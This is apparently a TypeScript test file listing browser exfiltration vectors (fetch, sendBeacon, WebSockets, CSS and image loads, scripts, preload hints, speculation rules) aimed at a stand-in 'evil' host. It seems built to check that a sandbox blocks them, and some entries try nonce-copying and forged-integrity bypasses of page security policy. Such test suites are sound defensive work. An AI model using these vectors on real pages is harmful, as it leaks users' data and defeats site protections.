// Ways out that ask for something: connections, and everything that a page can load.
import type { Vector } from "../arena/vector.ts";

/** Case 25. */
export const fetches: readonly Vector[] = [
  { name: "fetch", attack: ({ http }) => fetch(`${http}/?secret`, { mode: "no-cors" }) },
  { name: "fetch with CORS", attack: ({ http }) => fetch(`${http}/?secret`, { method: "POST", body: "secret" }) },
  { name: "fetch keepalive", attack: ({ http }) => fetch(`${http}/?secret`, { mode: "no-cors", keepalive: true }) },
  { name: "fetch of an address without DNS", attack: ({ ip, tag }) => fetch(`http://${ip}/${tag}`, { mode: "no-cors" }) },
  {
    name: "fetchLater",
    needs: () => "fetchLater" in window,
    attack: ({ https }) => (window as any).fetchLater(`${https}/?secret`, { activateAfter: 0 }),
  },
  {
    name: "XMLHttpRequest",
    attack: ({ http }) => {
      const request = new XMLHttpRequest();
      request.open("GET", `${http}/?secret`);
      request.send();
    },
  },
  {
    name: "synchronous XMLHttpRequest",
    attack: ({ http }) => {
      const request = new XMLHttpRequest();
      request.open("GET", `${http}/?secret`, false);
      request.send();
    },
  },
  {
    name: "sendBeacon",
    attack: ({ http }) => {
      navigator.sendBeacon(`${http}/`, "secret");
    },
  },
];

/** Case 26. */
export const sockets: readonly Vector[] = [
  { name: "WebSocket", attack: ({ host }) => void new WebSocket(`ws://${host}/`) },
  { name: "WebSocket over TLS", attack: ({ host }) => void new WebSocket(`wss://${host}/`) },
  { name: "EventSource", attack: ({ http }) => void new EventSource(`${http}/`) },
  {
    name: "WebTransport",
    // The lock takes it away in the app, which is what is to be seen.
    attack: ({ https }) => void new (window as any).WebTransport(`${https}/`),
    needs: () => "WebTransport" in window,
  },
  {
    name: "WebSocketStream",
    needs: () => "WebSocketStream" in window,
    attack: ({ host }) => void new (window as any).WebSocketStream(`ws://${host}/`),
  },
];

/** Case 27. */
export const pictures: readonly Vector[] = [
  {
    name: "image",
    attack: ({ http }) => {
      new Image().src = `${http}/a.png`;
    },
  },
  { name: "image in innerHTML", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<img src="${http}/a.png">`) },
  { name: "srcset", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<img srcset="${http}/a.png 1x">`) },
  {
    name: "picture source",
    attack: ({ http }) =>
      document.body.insertAdjacentHTML("beforeend", `<picture><source srcset="${http}/a.png"><img></picture>`),
  },
  { name: "input image", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<input type=image src="${http}/a.png">`) },
  { name: "body background", attack: ({ http }) => document.body.setAttribute("background", `${http}/a.png`) },
  { name: "table background", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<table background="${http}/a.png"><tr><td>x</table>`) },
  { name: "CSS background", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<p style="background:url(${http}/a.png)">x`) },
  { name: "CSS image-set", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<p style="background:image-set('${http}/a.png' 1x)">x`) },
  { name: "CSS content", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<p style="content:url(${http}/a.png)">x`) },
  { name: "CSS border-image", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<p style="border:9px solid;border-image:url(${http}/a.png) 3">x`) },
  { name: "CSS list-style-image", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<ul><li style="list-style-image:url(${http}/a.png)">x</ul>`) },
  { name: "CSS mask", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<p style="mask-image:url(${http}/a.png)">x`) },
  { name: "CSS shape-outside", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<p style="float:left;shape-outside:url(${http}/a.png)">x`) },
  { name: "CSS @import", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<style>@import url(${http}/a.css);</style>`) },
  {
    name: "CSS image in a constructed sheet",
    attack: ({ http }) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`#go { background: url(${http}/a.png) }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
  },
  {
    name: "CSS in a shadow root",
    attack: ({ http }) => {
      const host = document.body.appendChild(document.createElement("div"));
      host.attachShadow({ mode: "open" }).innerHTML = `<style>p{background:url(${http}/a.png)}</style><p>x`;
    },
  },
  { name: "style sheet", attack: ({ http }) => document.head.insertAdjacentHTML("beforeend", `<link rel=stylesheet href="${http}/a.css">`) },
  {
    name: "icon",
    attack: ({ http }) => document.head.insertAdjacentHTML("beforeend", `<link rel=icon href="${http}/a.png">`),
  },
  {
    name: "@font-face",
    attack: ({ http }) =>
      document.body.insertAdjacentHTML(
        "beforeend",
        `<style>@font-face{font-family:evil1;src:url(${http}/a.woff2)}</style><p style="font-family:evil1">x`,
      ),
  },
  { name: "FontFace", attack: ({ http }) => void new FontFace("evil2", `url(${http}/a.woff2)`).load().catch(() => {}) },
  { name: "SVG image", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<svg><image href="${http}/a.png" width=9 height=9 /></svg>`) },
  {
    name: "SVG feImage",
    attack: ({ http }) =>
      document.body.insertAdjacentHTML(
        "beforeend",
        `<svg width=9 height=9><filter id=evil3><feImage href="${http}/a.png"/></filter><rect width=9 height=9 filter="url(#evil3)"/></svg>`,
      ),
  },
  {
    name: "canvas and ImageBitmap",
    attack: async ({ http }) => {
      const image = new Image();
      image.crossOrigin = "anonymous";
      image.src = `${http}/a.png`;
      await image.decode();
    },
  },
];

/** Case 28. */
export const media: readonly Vector[] = [
  { name: "video", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<video src="${http}/a.mp4" preload=auto></video>`) },
  { name: "audio", attack: ({ http }) => void new Audio(`${http}/a.mp3`).play().catch(() => {}) },
  { name: "source", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<video preload=auto><source src="${http}/a.mp4"></video>`) },
  { name: "poster", attack: ({ http }) => document.body.insertAdjacentHTML("beforeend", `<video poster="${http}/a.png"></video>`) },
  {
    name: "track",
    attack: ({ http }) => {
      const video = document.body.appendChild(document.createElement("video"));
      video.crossOrigin = "anonymous";
      video.src = "data:video/mp4;base64,AAAAHGZ0eXBpc29tAAACAGlzb21pc28ybXA0MQ==";
      const track = video.appendChild(document.createElement("track"));
      track.src = `${http}/a.vtt`;
      track.default = true;
      track.track.mode = "showing";
    },
  },
];

/** Case 29. */
export const scripts: readonly Vector[] = [
  {
    name: "script",
    attack: ({ http }) => {
      document.body.appendChild(document.createElement("script")).src = `${http}/a.js`;
    },
  },
  {
    name: "module script",
    attack: ({ http }) => {
      const script = document.createElement("script");
      script.type = "module";
      script.src = `${http}/a.js`;
      document.body.append(script);
    },
  },
  {
    name: "script with a nonce copied from the page",
    attack: ({ http }) => {
      const script = document.createElement("script");
      script.nonce = [...document.querySelectorAll<HTMLElement>("[nonce]")].map(({ nonce }) => nonce).join("") || "none";
      script.src = `${http}/a.js`;
      document.body.append(script);
    },
  },
  {
    name: "script with the integrity of one that may run",
    attack: async ({ http }) => {
      const own = document.querySelector<HTMLScriptElement>("script[src]");
      const text = own?.src ? `import "${own.src}"` : (document.querySelector("script")?.textContent ?? "");
      const hash = new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text)));
      const script = document.createElement("script");
      script.crossOrigin = "anonymous";
      script.integrity = `sha256-${btoa(String.fromCharCode(...hash))}`;
      script.src = `${http}/a.js`;
      document.body.append(script);
    },
  },
  {
    name: "SVG script",
    attack: ({ http }) => {
      const script = document.createElementNS("http://www.w3.org/2000/svg", "script");
      script.setAttribute("href", `${http}/a.js`);
      document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg")).append(script);
    },
  },
];

const AHEAD = "Firefox does nothing at a preload of a script that is put into the page later";

/** Case 30. */
export const imports: readonly Vector[] = [
  { name: "import()", attack: ({ http }) => import(`${http}/a.js`).catch(() => {}) },
  { name: "modulepreload", silent: AHEAD, attack: ({ http }) => document.head.insertAdjacentHTML("beforeend", `<link rel=modulepreload href="${http}/a.js">`) },
  {
    name: "audio worklet",
    attack: ({ http }) => void new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(`${http}/a.js`).catch(() => {}),
    needs: () => "audioWorklet" in OfflineAudioContext.prototype,
  },
  {
    name: "paint worklet",
    needs: () => "paintWorklet" in CSS,
    attack: ({ http }) => void (CSS as any).paintWorklet.addModule(`${http}/a.js`).catch(() => {}),
  },
  {
    name: "import map",
    alone: true,
    attack: ({ http }) => {
      const add = (type: string, text: string) => {
        const script = document.createElement("script");
        script.type = type;
        script.textContent = text;
        document.body.append(script);
      };
      add("importmap", JSON.stringify({ imports: { evilmap: `${http}/a.js` } }));
      add("module", 'import "evilmap";');
    },
  },
];

/** Cases 31 to 33. */
const link = (rel: string, more = "", file = "a.js") => ({
  name: `${rel}${more === "" ? "" : ` ${more}`}`,
  attack: new Function(
    "evil",
    `document.head.insertAdjacentHTML("beforeend", '<link rel="${rel}" ${more} href="' + evil.http + '/${file}">')`,
  ) as Vector["attack"],
});

/** Case 31. */
export const hints: readonly Vector[] = [
  { ...link("preload", "as=script"), silent: AHEAD },
  link("preload", "as=style", "a.css"),
  link("preload", "as=image", "a.png"),
  link("preload", "as=font crossorigin", "a.woff2"),
  link("preload", "as=fetch crossorigin", "a.json"),
  link("prefetch"),
  {
    ...link("compression-dictionary"),
    needs: () => document.createElement("link").relList.supports("compression-dictionary"),
  },
  {
    ...link("manifest", "", "a.json"),
    silent: "a manifest is asked for when a person wants to install the page, which nobody does here",
  },
  {
    ...link("prerender"),
    silent: "the browser names the feature and does nothing; speculation rules took its place",
    needs: () => document.createElement("link").relList.supports("prerender"),
  },
];

/** Case 32. */
export const names: readonly Vector[] = [
  { ...link("dns-prefetch"), needs: () => document.createElement("link").relList.supports("dns-prefetch") },
  {
    name: "dns-prefetch turned on by the page",
    attack: ({ host }) => {
      document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="x-dns-prefetch-control" content="on">');
      document.head.insertAdjacentHTML("beforeend", `<link rel="dns-prefetch" href="//${host}">`);
      document.body.insertAdjacentHTML("beforeend", `<a href="http://${host}/">x</a>`);
    },
  },
];

/** Case 33. */
export const connections: readonly Vector[] = [link("preconnect"), link("preconnect", "crossorigin")];

/** Case 34. */
export const speculation: readonly Vector[] = ["prefetch", "prerender"].flatMap((action) =>
  ["list", "document"].map((source) => ({
    name: `speculation rules: ${action}, ${source}`,
    needs: () => HTMLScriptElement.supports?.("speculationrules") ?? false,
    attack: new Function(
      "evil",
      `const script = document.createElement("script");
       script.type = "speculationrules";
       const rule = ${
         source === "list"
           ? "{ source: 'list', urls: [evil.https + '/?secret'], eagerness: 'immediate' }"
           : "{ source: 'document', where: { href_matches: evil.https + '/*' }, eagerness: 'immediate' }"
       };
       document.body.insertAdjacentHTML("beforeend", '<a href="' + evil.https + '/?secret">x</a>');
       script.textContent = JSON.stringify({ ${action}: [rule] });
       document.body.append(script);`,
    ) as Vector["attack"],
  })),
);
